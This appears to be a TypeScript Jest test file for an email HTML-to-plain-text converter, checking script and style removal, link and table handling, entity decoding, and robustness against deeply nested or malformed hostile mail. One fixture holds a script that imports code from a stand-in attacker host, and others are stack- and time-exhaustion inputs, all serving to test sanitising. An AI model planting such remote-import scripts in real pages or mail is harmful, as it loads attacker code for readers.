import { bodyText } from '../../../shared/domain/email/bodyText';

describe('bodyText', () => {
  describe('given HTML with scripts and styles', () => {
    const html =
      '<html><head><style>.secret { color: red }</style><script>var token = "leak";</script></head>' +
      '<body><p>Visible text</p><script type="module">import("https://attacker.example.com/x.js")</script>' +
      '<style>p { margin: 0 }</style><p>More text</p></body></html>';

    it('when converted, then only the visible text remains', () => {
      expect(bodyText(html, true)).toBe('Visible text\n\nMore text');
    });
  });

  describe('given HTML with links', () => {
    it('when converted, then the link text is kept with its target', () => {
      expect(bodyText('<p>See <a href="https://learn.microsoft.com/partner-center">the docs</a></p>', true)).toBe(
        'See the docs [https://learn.microsoft.com/partner-center]',
      );
    });

    it('when the link text is the address itself, then it is not repeated', () => {
      expect(
        bodyText(
          '<a href="https://contoso.com">https://contoso.com</a> <a href="mailto:it@contoso.com">it@contoso.com</a>',
          true,
        ),
      ).toBe('https://contoso.com it@contoso.com');
    });
  });

  describe('given HTML with images, entities and layout spacing', () => {
    it('when converted, then images vanish, entities are decoded and empty paragraphs collapse', () => {
      const html =
        '<p>Error&nbsp;code:&nbsp;0x80070005 &lt;access denied&gt;</p><p>&nbsp;</p><p>&nbsp;</p>' +
        '<img src="cid:image001.png" alt="logo"><p>Regards</p>';
      expect(bodyText(html, true)).toBe('Error code: 0x80070005 <access denied>\n\nRegards');
    });
  });

  describe('given a layout table', () => {
    it('when converted, then cells stay on one line in columns and headers keep their case', () => {
      const html =
        '<table><tr><th>Field</th><th>Value</th></tr><tr><td>Subscription</td><td>Azure plan</td></tr></table>';
      expect(bodyText(html, true)).toBe('Field          Value\nSubscription   Azure plan');
    });
  });

  describe('given plain text', () => {
    it('when converted, then markup-like text is kept verbatim and only line endings and edges are normalised', () => {
      expect(bodyText('  <b>not html</b>\r\nline two  \r\n\r\n\r\n\r\nline three\r\n', false)).toBe(
        '<b>not html</b>\nline two\n\nline three',
      );
    });
  });

  describe('given HTML anyone may send', () => {
    it('when 5,000 elements are nested, then it converts without overflowing the stack and keeps every word, scripts and styles dropped', () => {
      const html =
        `${'<div>'.repeat(5_000)}Exchange hybrid sync stopped &amp; mail &#x2192; queue${'</div>'.repeat(5_000)}` +
        '<SCRIPT type="x">var token = "leak";</SCRIPT ><style>p{}</style><p>Our printer is offline.</p>';

      const text = bodyText(html, true);

      expect(text).toContain('Exchange hybrid sync stopped & mail → queue');
      expect(text).toContain('Our printer is offline.');
      expect(text).not.toContain('leak');
      expect(text).not.toContain('p{}');
    });

    it('when deep nesting comes with a hundred thousand unclosed tags, then it still converts in time', () => {
      const html = `${'<div>'.repeat(5_000)}${'<script'.repeat(1)}${'</script <'.repeat(100_000)}`;
      const started = Date.now();

      bodyText(html, true);

      expect(Date.now() - started).toBeLessThan(2_000);
    });

    it('when one long cell sits over 2,000 short rows, then the text stays near the size of the mail', () => {
      const rows = Array.from({ length: 2_000 }, (_, index) => `<tr><td>r${index}</td><td>x</td></tr>`).join('');
      const html = `<table><tr><td>${'a'.repeat(2_000)}</td><td>b</td></tr>${rows}</table>`;

      const text = bodyText(html, true);

      expect(text).toContain('r1999');
      expect(text.length).toBeLessThan(20 * html.length);
    });

    it('when a layout cell holds a sentence, then its words stay in order', () => {
      const sentence = 'Since this morning nobody in the Berlin office can open shared mailboxes in Outlook.';

      expect(bodyText(`<table><tr><td>${sentence}</td></tr></table>`, true)).toBe(sentence);
    });
  });
});
